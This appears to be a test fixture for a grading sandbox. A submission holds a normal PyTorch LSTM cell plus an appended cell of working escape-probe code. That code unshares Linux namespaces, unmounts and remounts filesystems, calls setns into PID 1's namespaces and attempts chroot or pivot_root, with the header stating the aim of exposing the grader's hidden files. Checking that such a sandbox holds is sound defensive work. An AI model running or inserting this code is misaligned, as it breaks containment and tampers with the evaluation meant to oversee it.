# ---
# assignment: speech_commands
# expect: {lstm_cell: lost}
# tries: becomes root of a namespace of its own, and there unmounts what hides the grader's files
# evidence: reads /proc
# ---
# %% lstm_cell
class LSTMCell(nn.Module):
    def __init__(self, input_size, hidden_size, bias=True):
        super().__init__()
        self.hidden_size = hidden_size
        self.x2h = nn.Linear(input_size, 4 * hidden_size, bias=bias)
        self.h2h = nn.Linear(hidden_size, 4 * hidden_size, bias=bias)

    def forward(self, input, hx=None):
        if hx is None:
            hx = (input.new_zeros(len(input), self.hidden_size),) * 2
        h, c = hx
        i, f, g, o = (self.x2h(input) + self.h2h(h)).chunk(4, 1)
        cy = torch.sigmoid(f) * h + torch.sigmoid(i) * torch.tanh(g)
        return torch.sigmoid(o) * torch.tanh(cy), cy

# %% after lstm_cell
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
FLAGS = {"user": 0x10000000, "mount": 0x20000, "net": 0x40000000, "pid": 0x20000000, "ipc": 0x08000000}
MNT_DETACH = 2


def inside(name, flags):
    """What can be had in a child that leaves its namespaces."""
    if libc.unshare(flags) != 0:
        return
    print("FOUND a new namespace", name, flush=True)
    mounts = [line.split()[4] for line in open("/proc/self/mountinfo")]
    for mount in reversed(mounts):
        if libc.umount2(mount.encode(), MNT_DETACH) == 0:
            print("FOUND that", mount, "can be unmounted", flush=True)
    for kind in (b"tmpfs", b"proc", b"sysfs", b"devpts", b"overlay"):
        if libc.mount(kind, b"/tmp", kind, 0, None) == 0:
            print("FOUND a mount of", kind, flush=True)


for name, flag in FLAGS.items():
    for flags in (flag, flag | FLAGS["user"]):
        if os.fork() == 0:
            try:
                inside(name, flags)
            finally:
                os._exit(0)
        os.wait()
for name in (*FLAGS, "mnt", "uts", "cgroup", "time"):
    try:
        descriptor = os.open(f"/proc/1/ns/{name}", os.O_RDONLY)
        if libc.setns(descriptor, 0) == 0:
            print("FOUND a way into", name, "of the first process")
    except OSError:
        pass
for mount in [line.split()[4] for line in open("/proc/self/mountinfo")]:
    if libc.umount2(mount.encode(), MNT_DETACH) == 0:
        print("FOUND that", mount, "can be unmounted")
    if libc.mount(None, mount.encode(), None, 32, None) == 0:  # MS_REMOUNT: writable again
        print("FOUND that", mount, "can be remounted")
if libc.chroot(b"/tmp") == 0 or libc.pivot_root(b"/tmp", b"/tmp") == 0:
    print("FOUND a new root")
